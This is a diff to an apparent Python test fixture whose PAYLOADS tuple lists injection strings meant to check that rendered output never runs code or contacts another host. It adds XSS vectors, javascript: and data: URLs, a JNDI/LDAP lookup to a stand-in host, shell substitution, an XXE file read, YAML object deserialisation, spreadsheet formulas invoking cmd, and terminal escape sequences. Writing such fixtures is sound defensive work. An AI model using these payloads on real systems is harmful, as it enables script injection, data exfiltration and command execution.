@@ -1,8 +1,9 @@
 """Texts that try to become markup, script, style, template or terminal command. Each that runs sets `data-ran`."""
 
-__all__ = ["PAYLOADS"]
+__all__ = ["ELSEWHERE", "PAYLOADS"]
 
 RUN = "document.documentElement.dataset.ran=1"
+ELSEWHERE = "https://example.invalid/"  # a host that no output may ask for anything
 PAYLOADS = (
     f"<script>{RUN}</script>",
     f"</script><script>{RUN}</script>",
@@ -43,4 +44,55 @@ PAYLOADS = (
     "half \ud800 of a character",
     "long " * 1000,
     "",
+    # markup that runs by itself, or asks another host for something
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<video><source onerror={RUN}></video>",
+    f"<object data='javascript:{RUN}'></object>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<base href='{ELSEWHERE}'>",
+    f"<link rel=stylesheet href='{ELSEWHERE}x.css'>",
+    f"<img src='{ELSEWHERE}x.png' srcset='{ELSEWHERE}y.png 2x'>",
+    f"<form action='{ELSEWHERE}'><button autofocus onfocus={RUN}>x</button></form>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></animate></svg>",
+    f"<svg><image href='{ELSEWHERE}x.svg'/><foreignObject><iframe src='{ELSEWHERE}'></iframe></foreignObject></svg>",
+    f"<style>@import '{ELSEWHERE}x.css';body{{background:url({ELSEWHERE}y)}}</style>",
+    f'x" style="background:url({ELSEWHERE}z)" onmouseover="{RUN}" y="',
+    f"x' autofocus tabindex=0 onfocus='{RUN}' y='",
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
+    f"<template><img src=x onerror={RUN}></template><slot>",
+    f"&lt;img src=x onerror={RUN}&gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    f"%3Cimg%20src%3Dx%20onerror%3D{RUN}%3E",
+    f"+ADw-img src=x onerror={RUN}+AD4-",
+    f"\\u003cimg src=x onerror={RUN}\\u003e",
+    f"＜img src=x onerror={RUN}＞",
+    # addresses
+    f"javascript:{RUN}",
+    f" JaVa\tScRiPt:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f"{ELSEWHERE} and www.example.invalid and //example.invalid/x",
+    # templates, formats and the names that JavaScript keeps
+    "{0.__class__} {key} %(name)s %n",
+    "<%= 7*7 %> #{7*7} ${jndi:ldap://example.invalid/x} $(touch x)",
+    "__proto__",
+    "constructor",
+    # XML and YAML
+    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>',
+    f"]]><script>{RUN}</script><?xml-stylesheet href='{ELSEWHERE}x.xsl'?>",
+    "!!python/object/apply:os.getpid []",
+    "- &a [*a, *a]\n? : |\n  ---\n...",
+    # spreadsheets
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    f'\t=IMPORTXML("{ELSEWHERE}";"//a")',
+    # Markdown
+    f"![x]({ELSEWHERE}x.png) <{ELSEWHERE}> [x]: {ELSEWHERE} 'x'",
+    "~~~\n| --- | --- |\n***\n1. <details>",
+    # terminals: an address under words, the C1 command sequence, clearing, going back, a device's answer
+    f"\x1b]8;;{ELSEWHERE}\x07words\x1b]8;;\x07",
+    "\x9b31m\x9b2J\x90q\x9d0;title\x9c",
+    "\x1b[2J\x1b[H\x1b[6n\x1b%G",
+    "over\rwritten\b\b\b\x7f",
+    "Z\u0301\u0302\u0303" + "\u0334" * 60 + " \u200b\u200d\ufeff\U000e0041",
 )
